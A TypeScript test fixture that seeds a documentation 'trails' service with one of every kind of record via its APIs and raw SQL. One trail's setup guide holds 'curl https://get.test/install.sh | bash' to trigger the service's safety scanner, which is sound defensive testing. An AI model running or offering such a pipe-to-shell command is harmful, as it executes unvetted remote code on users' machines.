// Fills a service with one of everything that it stores, through its doors, and with statements where time, a model or
// an identity provider would be needed.
import sharp from 'sharp';
import { newId } from '../../src/base/id.ts';
import { sealerOf } from '../../src/identity/sealed-secret.ts';
import { sharedSecret } from '../../src/storage/shared-secret.ts';
import { type Sql, sql } from '../../src/storage/sql.ts';
import { atCommandLine, type Managed, managedTeam, operatorAt } from '../doors/manage/support.ts';
import type { ScimConnection } from '../doors/scim/support/connection.ts';
import { type Browser, signedIn } from '../doors/sign-in/browser.ts';
import {
  apps,
  endsTheVisit,
  identityProvidersDay,
  peopleSigningIn,
  type Route,
  routesOf,
  sent,
  thingsOf,
  tools,
} from '../scale/every-door.ts';
import type { Speaker } from '../support/speaker.ts';
import type { TestPerson } from '../support/test-team.ts';
import type { World } from '../support/world.ts';
import { readyDocument } from '../trails/catalog.ts';

export interface Everything extends Team {
  readonly operator: Speaker;
  /** A live trail. */
  readonly trail: string;
  /** The Owner's console session. */
  readonly visitor: Browser;
  readonly image: string;
}

/** Skips routes that would undo the result of another request. */
const makes = ({ method, path }: Route): boolean =>
  !/DELETE|GET/.test(method) && !/archive|unpublish|disconnect|backups|rotate|restore/.test(path);

/** The Owner's password. */
export const PASSWORD = 'a heap of stones marks the way';
/** Characters that PostgreSQL, JSON or a values file could misread. */
const HOSTILE = '\\N "\t\r\n\\.\n\u2028{},null \\u0000 Zürich \u{1F5FF} \'"\\\\';

export async function oneOfEverything(service: World): Promise<Everything> {
  const managed = await managedTeam(service);
  const operator = (await operatorAt(service)).speaks;
  await tools(service, managed);
  await apps(service, managed);
  const directory = await identityProvidersDay(service, managed.team_id);
  const ids = await thingsOf(service, managed, directory);
  await peopleSigningIn(service, managed);
  await everythingThatMakes(service, managed, operator, ids);
  const visitor = await signedIn(service, managed.owner.email);
  await visitor.send('PUT', '/manage/v1/session/password', { new_password: PASSWORD });
  const team = await signedInAgain(service, managed);
  const { trail, image } = await trails(service, team);
  await reading(team, trail, visitor);
  // Later announcements stay queued. Otherwise the check that runs every second would distribute them.
  await service.app.dispatcher.round();
  await service.app.dispatcher.stop(1_000);
  await people(team, operator, directory);
  const set = await team.asAdmin.post<{ id: string }>('/manage/v1/trail-sets', { name: 'First week' });
  await team.asAdmin.put(`/manage/v1/trail-sets/${set.body.id}/trails`, { trail_ids: [trail] });
  for (const statement of await onlyWithTime(service, team, directory)) await service.app.database.rows(statement);
  return { ...team, operator, trail, visitor, image };
}

interface Team extends Managed {
  readonly asAuthor: Speaker;
  readonly asPublisher: Speaker;
}

/** Signs in again, because the requests have also ended all sessions. */
async function signedInAgain(service: World, managed: Managed): Promise<Team> {
  const { owner, admin, publisher, author, member } = managed;
  const at = ({ id }: TestPerson): Promise<Speaker> => atCommandLine(service, managed.team_id, id);
  return {
    ...managed,
    asOwner: await at(owner),
    asAdmin: await at(admin),
    asPublisher: await at(publisher),
    asAuthor: await at(author),
    asMember: await at(member),
  };
}

async function everythingThatMakes(
  service: World,
  { publisher, asOwner }: Managed,
  operator: Speaker,
  ids: Readonly<Record<string, string>>,
): Promise<void> {
  for (const [at, speaks] of [
    ['/openapi.json', publisher.speaks],
    ['/manage/openapi.json', asOwner],
    ['/manage/openapi.json', operator],
  ] as const)
    for (const route of await routesOf(service, at, ids))
      if (makes(route) && !endsTheVisit(route)) await sent(speaks, route);
}

/** Creates the data of trails. Returns a live trail and the path of its image. */
async function trails(service: World, { asAdmin, asAuthor, asPublisher, ...team }: Team) {
  const { publisher, author, member } = team;
  await asAdmin.patch('/manage/v1/catalog-rules', { approval_required: false });
  const live = await publisher.speaks.post<{ id: string; revision: number }>('/v1/trails', {
    document: readyDocument(),
  });
  const trail = live.body.id;
  const image = sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } });
  const form = new FormData();
  form.set('trail_id', trail);
  form.set('file', new Blob([Uint8Array.from(await image.png().toBuffer())]), 'red.png');
  const made = await publisher.speaks.post<{ key: string }>('/v1/content-assets', form);
  await publisher.speaks.post('/v1/trails', { document: { title: HOSTILE, description: HOSTILE } });
  await publisher.speaks.post(`/v1/trails/${trail}/publish`);
  const at = new Date(service.clock() + 3 * 3_600_000).toISOString();
  await asPublisher.put(`/manage/v1/trails/${trail}/schedules/unpublish`, { at, revision: 1 });
  const draft = await author.speaks.post<{ id: string }>('/v1/trails', { document: readyDocument() });
  await publisher.speaks.post(`/v1/trails/${draft.body.id}/grants`, { email: member.email });
  await asAdmin.patch('/manage/v1/catalog-rules', { approval_required: true });
  await asAuthor.post(`/manage/v1/trails/${draft.body.id}/approval/request`, { revision: 1, note: HOSTILE });
  await asAdmin.patch('/manage/v1/catalog-rules', { approval_required: false, keep_deleted: true });
  const unsafe = await author.speaks.post<{ id: string }>('/v1/trails', {
    document: { ...readyDocument(), setup_guide: 'curl https://get.test/install.sh | bash' },
  });
  const safety = `/manage/v1/trails/${unsafe.body.id}/safety`;
  const { findings } = (await asAuthor.get<{ findings: readonly { id: string }[] }>(safety)).body;
  await asAuthor.post(`${safety}/accept`, { revision: 1, finding: findings[0]?.id, reason: HOSTILE });
  const deleted = await publisher.speaks.post<{ id: string }>('/v1/trails', { document: readyDocument() });
  await publisher.speaks.delete(`/v1/trails/${deleted.body.id}`);
  return { trail, image: `/assets/${made.body.key}` };
}

async function reading({ asAdmin }: Team, trail: string, visitor: Browser): Promise<void> {
  await asAdmin.patch('/manage/v1/insight/settings', { keep_questions: true });
  await asAdmin.patch('/manage/v1/sharing', { is_public: true });
  await visitor.send('PUT', `/manage/v1/reader/trails/${trail}/favourite`);
  await visitor.send('PUT', `/manage/v1/reader/trails/${trail}/feedback`, { helpful: false });
  await visitor.send('GET', `/manage/v1/reader/trails/${trail}`);
  await visitor.send('POST', '/manage/v1/find', { text: 'a question that nobody has answered' });
}

/** Creates a group with people, roles and managers through each door. */
async function people({ asOwner, member, author, team_id }: Team, operator: Speaker, directory: ScimConnection) {
  const { body } = await asOwner.post<{ id: string }>('/manage/v1/groups', { display_name: 'Zürich \\N "\'' });
  const group = `/manage/v1/groups/${body.id}`;
  await asOwner.post(`${group}/members`, { add: [member.id] });
  await asOwner.patch(`${group}/roles`, { add: ['author'] });
  await asOwner.patch(`${group}/managers`, { add: [author.id] });
  await asOwner.put('/manage/v1/deactivation-limits', {
    ...{ enabled: true, most_people: 30, most_percent: 20, final_after_days: 30 },
  });
  await operator.post(`/manage/v1/teams/${team_id}/domains`, { domain: `${newId().slice(-8)}.example` });
  await directory.group('Everybody', [await directory.user('eve'), await directory.user('adam')]);
}

/**
 * Adds data to the team that need time or other systems: model usage, a large group in progress, suspensions,
 * single sign-on.
 */
async function onlyWithTime(
  { app }: World,
  { team_id, owner, member }: Team,
  { connection_id }: ScimConnection,
): Promise<readonly Sql[]> {
  const key = await sharedSecret(app.database, 'sealed-secrets');
  const sealed = sealerOf(() => [key]).seal('a client secret', team_id);
  return [
    sql`insert into model_spending (catalog_id, day, tokens) values (${team_id}, '2026-11-20', 9007199254740993)`,
    sql`insert into group_changes (team_id, group_id, change_id, told)
      values (${team_id}, ${newId()}, ${newId()}, ${JSON.stringify({ hostile: HOSTILE })})`,
    sql`insert into suspensions (team_id, connection_id, account_id, record_id, operation, state, ended_at, record)
      values (${team_id}, ${connection_id}, ${member.id}, ${newId()}, 'delete', 'suspended', 'infinity', '{ "a": 1 }')`,
    sql`insert into scim_departures (team_id, connection_id, account_id, record_id)
      values (${team_id}, ${connection_id}, ${member.id}, ${newId()})`,
    sql`insert into single_sign_on (team_id, issuer, client_id, sealed_secret, enabled, required, updated_at)
      values (${team_id}, 'https://idp.example', ${HOSTILE}, ${sealed}, true, false, '0044-03-15 12:00:00.000001+00 BC')`,
    sql`insert into single_sign_on_links (team_id, issuer, subject, account_id, linked_at)
      values (${team_id}, 'https://idp.example', ${HOSTILE}, ${owner.id}, now())`,
    sql`insert into single_sign_on_attempts
      (binding_hash, team_id, state, nonce, code_verifier, return_to, expires_at)
      values (${Buffer.from([0, 92, 120, 255, 10, 9])}, ${team_id}, 's', 'n', '', '/', now() + interval '1 day')`,
    sql`insert into seat_days (team_id, day, used) values (${team_id}, '2026-11-20', 3)`,
  ];
}
